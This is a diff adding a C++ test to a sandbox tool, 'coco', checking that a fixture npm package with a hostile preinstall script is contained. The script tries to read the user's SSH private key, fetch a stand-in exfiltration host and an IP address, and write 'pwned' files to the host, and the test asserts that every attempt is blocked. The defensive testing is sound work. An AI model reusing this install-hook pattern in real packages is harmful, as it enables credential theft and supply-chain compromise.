@@ -341,4 +341,100 @@ TEST_F(Lifecycle, AFailedInstallLeavesNoLayerAndConcurrentFirstRunsShareOneInsta
   fs::remove_all(store_ + "/tool-layers/" + name, ec);
 }
 
+// An install script is the classic supply-chain attack: a fixture package,
+// built here and never published, whose preinstall script reads the user's ssh
+// key, phones home and writes to the host's project. The install phase mounts
+// only coco's io dir and the download caches, so the tarball goes into the
+// tool's own mise cache (`isolated`: no other tool shares it) and npm installs
+// it under the alias of an existing package name (mise looks the name up in the
+// registry before it installs; nothing of that package is used). mise skips
+// install scripts by default, so npm_args turns them back on: the script must
+// run, and fail at each attempt.
+TEST_F(Lifecycle, MaliciousInstallScriptIsContained) {
+  std::string name = "malfix" + std::to_string(getpid());
+  std::string cacheDir = store_ + "-cache/coco/cache/tools/" + name;
+  std::string layerDir = store_ + "/tool-layers/" + name;
+  std::error_code ec;
+  fs::remove_all(cacheDir, ec);
+  fs::remove_all(layerDir, ec);
+
+  // The canary in the invoking user's real HOME, and the host project's state.
+  fs::create_directories(home_.path() + "/.ssh");
+  writeFile(home_.path() + "/.ssh/id_rsa", "COCO-CANARY-PRIVATE-KEY\n");
+  writeFile(project() + "/keep.txt", "unchanged\n");
+  auto listing = [&] {
+    std::string all;
+    for (const auto& e : fs::recursive_directory_iterator(home_.path()))
+      // data: coco's own; .npm: logs of the host's npm, which coco asks for its registry.
+      if (e.path().string().rfind(home_.path() + "/data", 0) != 0 &&
+          e.path().string().rfind(home_.path() + "/.npm", 0) != 0)
+        all += e.path().string() + "\n";
+    return all;
+  };
+
+  TempDir pkg("coco-life-malpkg");
+  fs::create_directories(pkg / "package");
+  writeFile(pkg / "package/package.json",
+            "{\"name\": \"coco-malicious-fixture\", \"version\": \"1.0.0\", \"bin\": {\"malfix\": \"bin.js\"},"
+            " \"scripts\": {\"preinstall\": \"sh ./evil.sh\"}}\n");
+  // Each attempt says what it got in attempts.txt, in the package's own dir.
+  writeFile(pkg / "package/evil.sh",
+            "r=./attempts.txt\n"
+            "echo \"home=$HOME\" >> $r\n"
+            "for f in \"$HOME/.ssh/id_rsa\" '" + home_.path() + "/.ssh/id_rsa'; do\n"
+            "  if c=$(cat \"$f\" 2>/dev/null); then echo \"ssh: READ $f $c\" >> $r; else echo \"ssh: denied $f\" >> $r; fi\n"
+            "done\n"
+            "if node -e \"fetch('https://exfil.example.test/').then(() => process.exit(0), () => process.exit(1))\";"
+            " then echo 'fetch: REACHED' >> $r; else echo 'fetch: failed' >> $r; fi\n"
+            // A literal address: the TCP handshake may complete (with the
+            // gateway, which then closes), so the attempt is a whole request.
+            "if node -e \"fetch('https://192.0.2.1/', {signal: AbortSignal.timeout(10000)})"
+            ".then(() => process.exit(0), () => process.exit(1))\";"
+            " then echo 'ip: REACHED' >> $r; else echo 'ip: failed' >> $r; fi\n"
+            "for f in /workspace/pwned /workspace/../pwned '" + project() + "/pwned' '" + home_.path() +
+            "/pwned'; do\n"
+            "  if echo pwned > \"$f\" 2>/dev/null; then echo \"write: inside-sandbox $f\" >> $r;"
+            " else echo \"write: denied $f\" >> $r; fi\n"
+            "done\n"
+            "echo done >> $r\n");
+  writeFile(pkg / "package/bin.js",
+            "#!/usr/bin/env node\n"
+            "process.stdout.write(require('fs').readFileSync(__dirname + '/attempts.txt', 'utf8'));\n");
+  fs::permissions(pkg / "package/bin.js", fs::perms::owner_exec | fs::perms::group_exec | fs::perms::others_exec,
+                  fs::perm_options::add);
+  fs::create_directories(cacheDir + "/mise");
+  Proc tar = runProc({"/bin/tar", "-czf", cacheDir + "/mise/malfix.tgz", "package"}, env(), pkg.path(), 60);
+  ASSERT_EQ(tar.code, 0) << tar.err;
+
+  writeFile(home_.path() + "/data/coco/tools/" + name + ".json",
+            "{\"tool\": \"npm:is-number[npm_args=--ignore-scripts=false]@/root/.cache/mise/malfix.tgz\","
+            " \"command\": \"malfix\", \"isolated\": true, \"network\": \"none\","
+            " \"mounts\": [{\"src\": \".\", \"dst\": \"/workspace\"}]}\n");
+  std::string before = listing();
+  Proc p = coco({"run", name}, 600);
+  ASSERT_EQ(p.code, 0) << p.out << p.err;
+  EXPECT_TRUE(contains(p.err, "coco: installing " + name)) << p.err;
+
+  // The script ran to its end, and every attempt failed.
+  EXPECT_TRUE(contains(p.out, "home=/root\n")) << p.out;
+  EXPECT_TRUE(contains(p.out, "\ndone\n")) << "the install script did not run to its end:\n" << p.out;
+  EXPECT_FALSE(contains(p.out, "READ")) << p.out;
+  EXPECT_FALSE(contains(p.out, "COCO-CANARY")) << p.out;
+  EXPECT_TRUE(contains(p.out, "ssh: denied /root/.ssh/id_rsa\n")) << p.out;
+  EXPECT_TRUE(contains(p.out, "ssh: denied " + home_.path() + "/.ssh/id_rsa\n")) << p.out;
+  EXPECT_TRUE(contains(p.out, "fetch: failed\n")) << p.out;
+  EXPECT_TRUE(contains(p.out, "ip: failed\n")) << p.out;
+  EXPECT_TRUE(contains(p.err, "coco: blocked lookup of exfil.example.test")) << p.err;
+  EXPECT_TRUE(contains(p.err, "blocked connection to 192.0.2.1")) << p.err;
+
+  // Whatever the writes did inside the sandbox, the host saw none of it.
+  EXPECT_EQ(listing(), before);
+  EXPECT_EQ(readFile(project() + "/keep.txt"), "unchanged\n");
+  EXPECT_FALSE(fs::exists(project() + "/pwned"));
+  EXPECT_FALSE(fs::exists(home_.path() + "/pwned"));
+
+  fs::remove_all(layerDir, ec);
+  fs::remove_all(cacheDir, ec);
+}
+
 }  // namespace
